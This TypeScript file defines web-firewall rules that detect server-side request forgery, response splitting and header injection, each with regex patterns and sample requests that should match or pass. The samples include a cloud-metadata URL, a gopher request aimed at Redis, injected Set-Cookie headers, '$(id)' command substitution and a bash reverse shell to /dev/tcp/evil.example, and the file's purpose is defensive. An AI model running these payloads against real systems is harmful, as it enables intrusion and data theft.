/** Attempts to make the server send requests where only it can reach. */
import { anywhere, form, inQueryOrBody, json, type ManagedRule } from './managed-rule.ts'

export const ssrf: readonly ManagedRule[] = [
  {
    ref: 'ssrf-cloud-metadata',
    says: 'The address of the metadata service of a cloud provider',
    tags: ['ssrf', 'cloud'],
    does: 'block',
    expression: inQueryOrBody(
      String.raw`\b169\.254\.169\.254\b|\bmetadata\.google\.internal\b|\b100\.100\.100\.200\b|\[?fd00:ec2::254\]?|//(0xa9fea9fe|2852039166)\b`,
    ),
    matches: [
      '/fetch?url=http://169.254.169.254/latest/meta-data/',
      json('{"url":"http://metadata.google.internal/"}'),
    ],
    passes: ['/fetch?url=https://example.com/', json('{"version":"1169.254.169.2540"}')],
  },
  {
    ref: 'ssrf-local-address',
    says: 'A parameter that points to this machine or its private network',
    tags: ['ssrf'],
    does: { score: 5 },
    expression: inQueryOrBody(
      String.raw`=\s*(https?|ftp)://([^/@&\s]*@)?(localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1?\]|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(1[6-9]|2\d|3[01])\.\d+\.\d+)\b?`,
    ),
    matches: ['/fetch?url=http://localhost:8080/admin', form('callback=http://10.0.0.5/x')],
    passes: ['/fetch?url=https://local.example.com', form('callback=https://172.64.0.1.example.com/')],
  },
  {
    ref: 'ssrf-odd-scheme',
    says: 'A scheme that turns a fetch into a message to another protocol',
    tags: ['ssrf'],
    does: 'block',
    expression: inQueryOrBody(String.raw`[=:"'\s](gopher|dict|ldaps?|tftp|netdoc|jar:https?)://`),
    matches: ['/fetch?url=gopher://127.0.0.1:6379/_INFO', json('{"url":"dict://x:11211/stat"}')],
    passes: ['/fetch?url=https://gopher.example/', form('q=dictionary')],
  },
  {
    ref: 'response-splitting',
    says: 'A line break followed by a header, to write headers into the answer',
    tags: ['header-injection'],
    does: 'block',
    expression: inQueryOrBody(
      String.raw`[\r\n]\s*(set-cookie|location|content-(type|length)|refresh|access-control-allow-origin)\s*:|[\r\n]http/[012]\.[019]\s`,
    ),
    matches: ['/go?to=/x%0d%0aSet-Cookie:%20a=b', form('next=a%0aLocation:%20//evil.example')],
    passes: ['/go?to=/x%0d%0aline', form('text=where:+location:+here')],
  },
  {
    ref: 'forwarded-for-injection',
    says: 'A forwarding header that carries something other than addresses',
    tags: ['header-injection'],
    does: { score: 5 },
    expression: `any(http.request.headers["x-forwarded-for"][*] matches r#"[<>'"\`$;{}()]"#)`,
    matches: [{ headers: { 'x-forwarded-for': "1' or 1" } }, { headers: { 'x-forwarded-for': '$(id)' } }],
    passes: [
      { headers: { 'x-forwarded-for': '203.0.113.7, 10.0.0.1' } },
      { headers: { 'x-forwarded-for': '2001:db8::1' } },
    ],
  },
  {
    ref: 'body-in-address',
    says: 'A log or shell redirection to a foreign address anywhere in the request',
    tags: ['rce', 'exfiltration'],
    does: { score: 5 },
    expression: anywhere(String.raw`>&?\s*/dev/(tcp|udp)/|\b(curl|wget)\s+(-\w+\s+)*https?://`),
    matches: ['/?x=bash+-i+>%26+/dev/tcp/evil.example/1', { headers: { 'x-cmd': 'wget -q http://evil.example/a' } }],
    passes: ['/dev/tools?x=tcp', { headers: { 'user-agent': 'curl/8.5.0' } }],
  },
]
